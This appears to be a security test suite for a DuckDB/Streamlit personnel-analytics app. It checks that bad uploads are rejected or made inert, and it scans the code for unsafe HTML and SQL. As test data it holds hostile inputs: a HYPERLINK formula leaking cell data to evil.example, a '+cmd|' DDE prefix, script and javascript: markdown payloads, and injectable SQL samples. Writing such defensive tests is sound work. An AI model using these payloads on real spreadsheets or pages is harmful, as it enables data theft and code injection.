"""Hostile and broken input: every file of tests/data/bad gets a clear message or loads inertly, none
changes stored data when rejected, formula payloads come out inert in the exports, nothing a user
supplied is rendered as HTML or markdown, and no SQL is built from user values."""

from __future__ import annotations

import ast
import csv
import io
import re
import resource
import subprocess
import sys
import time
import tomllib
from pathlib import Path

import duckdb
import openpyxl
import pytest

from analytics import ingest
from analytics.core import db
from analytics.core.export import to_csv, to_xlsx
from tests.stores import seeded, stored

ROOT = Path(__file__).resolve().parent.parent
BAD = ROOT / "tests" / "data" / "bad"
GOOD = ROOT / "tests" / "data" / "good"
CORPUS = sorted(p.name for p in BAD.iterdir() if p.is_file())

# Files that are hostile but legitimately loadable: their content must come out inert.
LOADABLE = {
    "wide_1000_columns.csv",  # 991 unknown columns kept aside as JSON, reported
    "external_links.xlsx",  # cached values only; the link is never followed, formulas never evaluated
    "macros.xlsm",  # values only; vbaProject.bin is never read, exports are plain .xlsx
    "html_names.csv",  # names shown as text, never as HTML or markdown
    "formula_payloads.csv",  # stored as text, neutralised in every export
    "mixed_encoding.csv",  # UTF-8 and Windows-1252 lines each decoded right
    "nip_mismatch_warning.csv",  # a warning, not an error
}
# Every class the corpus must keep covering (one file at least each).
CLASSES = {
    "empty.csv", "header_only.csv", "missing_required.csv", "csv_named_xlsx.xlsx", "truncated.xlsx",
    "truncated.csv", "binary.csv", "zip_named_xlsx.xlsx", "nip_form.csv", "nip_gender.csv",
    "nip_scientific.csv", "nip_float.xlsx", "score_range.csv", "bad_category.csv", "duplicate_nip.csv",
    "required_blank.csv", "ragged.csv", "no_header.csv", "old_excel.xls", "merit_bad.csv",
    "huge_cell.csv", "garbage_random.csv", "zip_bomb.xlsx", *LOADABLE,
}  # fmt: skip
FORMULA_START = ("=", "+", "-", "@")
_CONSTANT = re.compile(r"^_?[A-Z][A-Z0-9_]*$")


@pytest.fixture
def con(tmp_path: Path) -> duckdb.DuckDBPyConnection:
    """A database already holding three good rows (period 2024), so 'unchanged' means something."""
    return seeded(tmp_path / "t.duckdb")


def test_corpus_covers_every_class() -> None:
    assert len(CORPUS) >= 25, CORPUS
    assert CLASSES <= set(CORPUS), sorted(CLASSES - set(CORPUS))


@pytest.mark.parametrize("name", CORPUS)
def test_each_bad_file_gets_a_message_or_loads_inertly(con: duckdb.DuckDBPyConnection, name: str) -> None:
    before = stored(con)
    data = (BAD / name).read_bytes()
    start = time.perf_counter()
    v = ingest.validate(data, name, con)  # never raises, whatever the bytes
    assert time.perf_counter() - start < 20
    assert stored(con) == before  # validation never writes
    messages = ingest.problem_messages(v, "id")
    rejected = v.fatal or bool(v.error_rows)
    if name in LOADABLE:
        assert not rejected, messages[:3]
        result = ingest.load(con, v)
        assert result.rows_loaded == v.n_rows > 0
        return
    assert rejected, f"{name} was accepted"
    errors = [text for severity, text in messages if severity == "error"]
    assert errors and all(name in text for text in errors)  # each message names the file
    assert not any("Traceback" in text or "Error:" in text for text in errors)
    with pytest.raises(ValueError):
        ingest.load(con, v)
    assert stored(con) == before


def test_enormous_cell_is_refused_with_row_and_limit(con: duckdb.DuckDBPyConnection) -> None:
    v = ingest.validate((BAD / "huge_cell.csv").read_bytes(), "huge_cell.csv", con)
    text = ingest.problem_messages(v, "id")[0][1]
    assert "32767 karakter" in text and "baris 2" in text


def test_zip_bomb_refused_without_expanding(con: duckdb.DuckDBPyConnection) -> None:
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    start = time.perf_counter()
    v = ingest.validate((BAD / "zip_bomb.xlsx").read_bytes(), "zip_bomb.xlsx", con)
    assert time.perf_counter() - start < 2
    assert v.problems["code"].tolist() == ["zip_bomb"]
    grown_mb = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
    assert grown_mb < 100  # the 200 MB part was never inflated


def test_mixed_encoding_names_decoded_per_line(con: duckdb.DuckDBPyConnection) -> None:
    v = ingest.validate((BAD / "mixed_encoding.csv").read_bytes(), "mixed_encoding.csv", con)
    assert list(v.rows["nama"]) == ["Budi Santoso", "Maria Goreti Bría", "Yohanes Nggadas Ñañez"]


def test_workbook_links_formulas_and_macros_are_never_followed(con: duckdb.DuckDBPyConnection) -> None:
    for name in ("external_links.xlsx", "macros.xlsm"):
        v = ingest.validate((BAD / name).read_bytes(), name, con, period=2025, replace=True)
        ingest.load(con, v, replace=True)
    dump = str(con.execute("select * from employees").fetchall())
    assert "evil.example" not in dump and "HYPERLINK" not in dump and "Auto_Open" not in dump
    assert con.execute("select count(*) from employees where period = 2025").fetchall() == [(3,)]


def _employees_frame(con: duckdb.DuckDBPyConnection):  # type: ignore[no-untyped-def]
    return con.execute("select * exclude (extra, import_id) from employees order by nip").df()


def test_formula_payloads_are_inert_in_exports(con: duckdb.DuckDBPyConnection) -> None:
    name = "formula_payloads.csv"
    ingest.load(con, ingest.validate((BAD / name).read_bytes(), name, con))
    frame = _employees_frame(con)
    assert any(str(n).startswith(FORMULA_START) for n in frame["nama"])  # the payloads were stored as text
    # xlsx, read back: no formula cell anywhere, and each payload still readable as text
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx({"Pegawai": frame})))
    cells = [c for row in book.active.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [str(c.value) for c in cells if isinstance(c.value, str)]
    assert '\'=HYPERLINK("http://evil.example/?d="&A1;"klik")' in texts
    assert not [t for t in texts if t.startswith(FORMULA_START)]
    # csv: every field a spreadsheet would evaluate starts with an apostrophe
    rows = list(csv.reader(io.StringIO(to_csv(frame).decode("utf-8-sig")), delimiter=";"))
    assert not [f for r in rows[1:] for f in r if f.startswith(FORMULA_START) and not _number(f)]
    assert any(f.startswith("'+cmd|") for r in rows for f in r)


def _number(text: str) -> bool:
    return re.fullmatch(r"-?\d+(,\d+)?", text) is not None


def test_html_names_are_stored_as_plain_text(con: duckdb.DuckDBPyConnection) -> None:
    name = "html_names.csv"
    ingest.load(con, ingest.validate((BAD / name).read_bytes(), name, con))
    names = {r[0] for r in con.execute("select nama from employees").fetchall()}
    assert "<script>alert(1)</script>" in names  # kept verbatim (it is data), never rendered: see the scans


# --- files beyond the upload limit --------------------------------------------------------------

_OVER_LIMIT_SQL = """
copy (
    with s as (select i, i % 9000 as b, i // 9000 as r from range($n) t(i))
    select
        strftime(date '1966-01-01' + b::int, '%Y%m%d') || (year(date '1966-01-01' + b::int) + 22)::varchar
            || lpad((r % 12 + 1)::varchar, 2, '0') || (1 + (r // 12) % 2)::varchar
            || lpad((r // 24)::varchar, 3, '0') as "NIP",
        'Pegawai ' || i as "Nama", 'Pemerintah Provinsi Contoh' as "Instansi", 'Unit ' || (i % 40) as "Unit Kerja",
        'Analis' as "Jabatan", 'Pelaksana' as "Jenis Jabatan", 2025 as "Periode",
        case when i = $n - 2 then '101' else '80' end as "Nilai Kinerja", '70' as "Kompetensi",
        repeat('catatan panjang ', 131) as "Catatan"
    from s
) to '{out}' (header, delimiter ';')
"""


def test_upload_limit_is_200_mb_and_explained() -> None:
    """The app's uploader refuses files above server.maxUploadSize (Streamlit enforces it in the browser
    and on the server); the Data page says so and points to the command line."""
    from analytics.labels import t

    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert config["server"]["maxUploadSize"] == 200
    assert "200 MB" in t("data.limit", "id") and "python -m analytics load" in t("data.limit", "id")
    assert 'tr("data.limit")' in (ROOT / "app_pages" / "data.py").read_text()


@pytest.mark.slow
def test_cli_reads_a_file_beyond_the_upload_limit_in_bounded_memory(tmp_path: Path) -> None:
    """The CLI is the way for big files: a 210 MB file is read and checked whole (here rejected for its
    one bad row, named), with peak memory bounded (about 10x the file for this text-heavy file)."""
    big = tmp_path / "provinsi.csv"
    duckdb.connect().execute(_OVER_LIMIT_SQL.replace("{out}", str(big)), {"n": 100_000})
    assert big.stat().st_size > 200 * 1024 * 1024
    target = tmp_path / "x.duckdb"
    db.connect(target).close()
    code = (
        "import resource, subprocess, sys; "
        "p = subprocess.run([sys.executable, '-m', 'analytics', 'load', sys.argv[1], '--db', sys.argv[2]], capture_output=True, text=True); "
        "print(p.returncode); print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss); sys.stderr.write(p.stderr)"
    )
    out = subprocess.run(
        [sys.executable, "-c", code, str(big), str(target)],
        capture_output=True,
        text=True,
        cwd=ROOT,
        timeout=300,
    )
    returncode, peak_kb = (int(x) for x in out.stdout.split())
    assert returncode == 1, out.stderr
    assert "baris 100000" in out.stderr and "Traceback" not in out.stderr
    assert peak_kb / 1024 / 1024 < 3.5, f"peak RSS {peak_kb / 1024:.0f} MB"
    print(f"210 MB file: peak RSS {peak_kb / 1024:.0f} MB")


# --- nothing user-supplied rendered as HTML/markdown --------------------------------------------

UI_SOURCES = sorted([*(ROOT / "app_pages").rglob("*.py"), *(ROOT / "ui").rglob("*.py"), ROOT / "app.py"])
# Elements that render their text as markdown (links, images) or HTML.
MARKDOWN_CALLS = {"markdown", "caption", "write", "info", "warning", "error", "success", "title",
                  "header", "subheader", "toast", "html"}  # fmt: skip
# Interpolations into markdown that are not user data: labels, numbers, reference-table texts.
SAFE_IN_MARKDOWN = re.compile(
    r"^(tr|t|fmt_number|fmt_percent|int|len|plain)\(.*\)$|^cell\['(label|action)'\]$|^[A-Z_]+$"
)


def _calls(path: Path) -> list[tuple[ast.Call, str]]:
    tree = ast.parse(path.read_text(encoding="utf-8"))
    return [
        (n, n.func.attr)
        for n in ast.walk(tree)
        if isinstance(n, ast.Call) and isinstance(n.func, ast.Attribute)
    ]


# HTML builders that take no text from the data (numbers and ``analytics.labels`` texts, escaped).
SAFE_HTML_BUILDERS = {
    "whatif_charts.transition_table_html",  # an int matrix, box numbers and the language
    "whatif_charts.flows_html",  # an int matrix, box numbers, cell levels and the language
    # counts and shares per box; the box labels and level names of the reference tables, escaped
    "whatif_charts.ninebox_grid_html",
    "charts.box_distribution_html",  # Beranda's counts and shares per box and the label texts, escaped
}


def test_no_unsafe_html_fed_with_data() -> None:
    offenders = []
    for path in UI_SOURCES:
        for call, attr in _calls(path):
            unsafe = any(
                k.arg == "unsafe_allow_html"
                and not (isinstance(k.value, ast.Constant) and k.value.value is False)
                for k in call.keywords
            )
            static = bool(call.args) and (
                isinstance(call.args[0], ast.Constant)
                or isinstance(call.args[0], ast.Name)
                and bool(_CONSTANT.match(call.args[0].id))
            )  # a literal or an UPPER_CASE constant (e.g. the meeting mode's CSS) carries no data
            static = static or (
                bool(call.args)
                and isinstance(call.args[0], ast.Call)
                and ast.unparse(call.args[0].func) in SAFE_HTML_BUILDERS
            )
            if (unsafe or attr == "html") and not static:
                offenders.append(f"{path.relative_to(ROOT)}:{call.lineno} {attr}")
    assert not offenders, offenders


def test_no_row_values_in_markdown_f_strings() -> None:
    """st.markdown/caption/... render markdown: a unit named ``![x](http://evil/p.png)`` would load an
    image. Row values go to st.text, st.dataframe or a label's parameter, never into markdown f-strings."""
    offenders = []
    for path in UI_SOURCES:
        for call, attr in _calls(path):
            if attr not in MARKDOWN_CALLS or not call.args or not isinstance(call.args[0], ast.JoinedStr):
                continue
            for part in call.args[0].values:
                if isinstance(part, ast.FormattedValue):
                    expr = ast.unparse(part.value)
                    if not SAFE_IN_MARKDOWN.match(expr):
                        offenders.append(
                            f"{path.relative_to(ROOT)}:{call.lineno} st.{attr}(f'...{{{expr}}}...')"
                        )
    assert not offenders, offenders


# --- no SQL built from user values --------------------------------------------------------------

SQL_SOURCES = sorted(
    [*(ROOT / "analytics").rglob("*.py"), *(ROOT / "ui").rglob("*.py"), *(ROOT / "app_pages").rglob("*.py")]
)
SQL_WORDS = re.compile(r"\b(select|insert|update|delete|where)\b", re.IGNORECASE)
# Variables audited to hold identifiers from fixed whitelists in code, or SQL from builders that bind
# every value (Filters.where() returns '?' placeholders; q.sql from boxes_sql and friends). Each use
# also carries a noqa for ruff S608. Anything else interpolated into SQL must be bound instead.
SQL_SAFE_NAMES = {
    "where", "cols", "table", "flag", "column", "prefix", "present", "ready", "source", "by", "group",
    "has_cols", "scope_where", "rank_cols", "rank_names", "k_level", "p_level", "k", "p", "clauses",
    "c", "reasons", "use",
    # agency schemes bound per instansi (ninebox/boxes.py _bound_sql): the checked prefix plus an index
    "part_prefix",
    # the scoring fast path (analytics/scoring.py, ninebox.fast_*): SQL pieces built from the component
    # whitelist in db.py and bound $-parameters
    "cell", "scores", "counts_ctes", "ddl", "keys", "comps", "parts", "score_cols",
    # the data-quality checks (analytics/core/quality.py): pieces over db.COMPONENTS, Filters.where
    # (bound values) and the statement built from them
    "empty", "out_of_range", "wanted", "inner", "value", "presence",
    # the movement page's ways of reading the listed names (movement._NAMES_*: constant dicts)
    "names",
}  # fmt: skip
# Local SQL-builder functions over whitelisted identifiers; safe when their arguments are.
SQL_SAFE_FUNCS = {"_absent_mask", "_blank_mask", "box", "pool"}


def _sql_safe(node: ast.expr, local: frozenset[str] = frozenset()) -> bool:
    """An expression made only of literals, UPPER_CASE constants (whitelists), audited names and
    combinations of them (f-strings, conditionals, `', '.join(...)` over whitelists)."""
    if isinstance(node, ast.Constant):
        return True
    if isinstance(node, ast.Name):
        return bool(_CONSTANT.match(node.id)) or node.id in SQL_SAFE_NAMES or node.id in local
    if isinstance(node, ast.Attribute):
        # X.sql: the SQL of a query builder (boxes_sql & co.), which binds every value it takes
        return bool(_CONSTANT.match(node.attr)) or node.attr == "sql" and isinstance(node.value, ast.Name)
    if isinstance(node, ast.Subscript):  # WHITELIST[key] or an audited builder's part
        return _sql_safe(node.value, local)
    if isinstance(node, ast.JoinedStr):
        return all(_sql_safe(v.value, local) for v in node.values if isinstance(v, ast.FormattedValue))
    if isinstance(node, ast.IfExp):
        return _sql_safe(node.body, local) and _sql_safe(node.orelse, local)
    if isinstance(node, ast.BoolOp):
        return all(_sql_safe(v, local) for v in node.values)
    if isinstance(node, ast.BinOp) and isinstance(node.op, ast.Add):
        return _sql_safe(node.left, local) and _sql_safe(node.right, local)
    if isinstance(node, ast.Call) and isinstance(node.func, ast.Name) and node.func.id in SQL_SAFE_FUNCS:
        return all(_sql_safe(a, local) for a in node.args)
    if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr == "join":
        return _sql_safe(node.func.value, local) and all(_sql_safe(a, local) for a in node.args)
    if isinstance(node, ast.GeneratorExp | ast.ListComp):
        names = set(local)
        for gen in node.generators:
            if not _sql_safe(gen.iter, frozenset(names)):
                return False
            names |= {n.id for n in ast.walk(gen.target) if isinstance(n, ast.Name)}
        return _sql_safe(node.elt, frozenset(names))
    if isinstance(node, ast.Tuple | ast.List):
        return all(_sql_safe(e, local) for e in node.elts)
    return False


def _sql_interpolations(path: Path) -> list[tuple[int, ast.expr]]:
    tree = ast.parse(path.read_text(encoding="utf-8"))
    found: list[tuple[int, ast.expr]] = []
    for node in ast.walk(tree):
        if isinstance(node, ast.JoinedStr):
            text = "".join(
                v.value for v in node.values if isinstance(v, ast.Constant) and isinstance(v.value, str)
            )
            if SQL_WORDS.search(text):
                found += [(node.lineno, v.value) for v in node.values if isinstance(v, ast.FormattedValue)]
        elif (
            isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr == "format"
        ):
            receiver = ast.unparse(node.func.value)
            literal = isinstance(node.func.value, ast.Constant) and SQL_WORDS.search(
                str(node.func.value.value)
            )
            if literal or re.search(r"_?[A-Z_]*SQL", receiver):
                found += [(node.lineno, a) for a in node.args]
                found += [(node.lineno, k.value) for k in node.keywords]
        elif isinstance(node, ast.BinOp) and isinstance(node.op, ast.Mod):
            if isinstance(node.left, ast.Constant) and SQL_WORDS.search(str(node.left.value)):
                found.append((node.lineno, node.right))
    return found


def test_no_sql_built_from_user_values() -> None:
    offenders = [
        f"{path.relative_to(ROOT)}:{line} {{{ast.unparse(expr)}}}"
        for path in SQL_SOURCES
        for line, expr in _sql_interpolations(path)
        if not _sql_safe(expr)
    ]
    assert not offenders, offenders


def test_sql_scan_catches_a_formatted_user_value(tmp_path: Path) -> None:
    bad = tmp_path / "bad.py"
    bad.write_text(
        "def f(con, name):\n    return con.execute(f\"select * from employees where nama = '{name}'\")\n"
        'Q = "delete from t where x = %s" % user\n'
    )
    flagged = sorted(ast.unparse(e) for _, e in _sql_interpolations(bad) if not _sql_safe(e))
    assert flagged == ["name", "user"]


def test_plain_makes_markdown_from_the_data_inert() -> None:
    """What the pages use before data goes into markdown: links and images show as typed."""
    from ui.state import plain

    hostile = "![x](http://evil/p.png) [klik](javascript:alert(1)) **tebal** <b>x</b>"
    escaped = plain(hostile)
    assert "](" not in escaped and "**" not in escaped.replace("\\*", "")
    assert escaped.replace("\\", "") == hostile  # nothing is lost, only escaped
